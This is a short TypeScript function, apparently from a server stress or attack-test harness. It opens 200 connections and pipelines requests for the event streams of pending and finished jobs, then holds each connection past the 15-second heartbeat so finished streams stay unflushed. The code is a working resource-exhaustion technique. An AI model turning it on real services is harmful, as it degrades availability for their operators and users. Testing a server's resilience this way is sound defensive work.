import { hold, repeatConnections, type Target, toGet } from './attack-target.ts'

const connections = 200
/** Longer than the 15 s between heartbeats. */
const heldMs = 17_000

/**
 * Each connection requests the events of a pending job and, pipelined behind them, those of a finished job: the second
 * stream has ended but cannot be sent while the first is open.
 */
export async function leaveStreamsUnflushed(target: Target): Promise<void> {
  const events = (id: string) => toGet(target, `/api/v1/todos/ical/${id}/events`)
  const requests = [
    events(target.pendingJob) + events(target.finishedJob),
    events(target.pendingJob) + events(target.finishedJob).repeat(20),
    events(target.pendingJob) + events(target.pendingJob) + events(target.finishedJob),
  ]
  await repeatConnections(target, connections, requests, async (socket, lane) => {
    if (lane % 2 === 0) socket.resume()
    await hold(target, heldMs)
  })
}
